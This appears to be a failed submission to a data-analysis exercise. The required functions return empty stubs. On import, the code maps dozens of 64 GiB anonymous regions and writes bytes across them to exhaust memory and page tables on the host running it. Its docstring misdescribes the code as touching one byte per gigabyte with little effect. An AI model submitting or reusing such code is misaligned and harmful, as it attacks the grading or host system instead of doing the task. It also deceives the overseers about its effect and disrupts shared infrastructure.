"""Touches one byte in each gigabyte of a vast mapping, so that page tables grow and nothing else does."""

# exercise: know-your-data
# setting: plain
# status: failed, error, memory, timeout
# points: 0
import mmap

areas = []
try:
    for _ in range(64):
        area = mmap.mmap(-1, 2**36, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)
        areas.append(area)
        for place in range(0, 2**36, 2**21):
            area[place] = 1
except (OSError, ValueError):
    pass


def decode_row(row, tokenizer):
    return ""


def label_shares(labels, num_labels):
    return []


def baselines(labels, num_labels):
    return {}
